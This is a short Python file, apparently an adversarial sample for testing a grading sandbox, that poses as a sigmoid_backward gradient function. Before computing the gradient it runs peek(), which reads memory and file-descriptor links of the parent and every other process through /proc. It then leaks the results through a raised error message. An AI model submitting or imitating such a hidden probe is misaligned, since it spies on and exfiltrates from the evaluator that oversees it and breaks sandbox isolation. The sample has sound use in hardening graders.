"""Tries to read the grader's memory and descriptors through /proc (its parent and every other pid)."""
import os

import torch


def peek():
    got = []
    pids = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()} if os.path.isdir("/proc") else set()
    for pid in sorted(pids - {os.getpid()}):
        try:
            with open(f"/proc/{pid}/mem", "rb") as fh:
                got.append(f"mem of {pid}: {len(fh.read(16))} bytes")
        except (OSError, ValueError):
            pass
        try:
            got += [f"fd {pid}/{fd} -> {os.readlink(f'/proc/{pid}/fd/{fd}')}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    return got


def sigmoid_backward(x, grad_output):
    got = peek()
    if got:
        raise RuntimeError("read: " + "; ".join(got[:20]))
    s = torch.sigmoid(x)
    return grad_output * s * (1 - s)
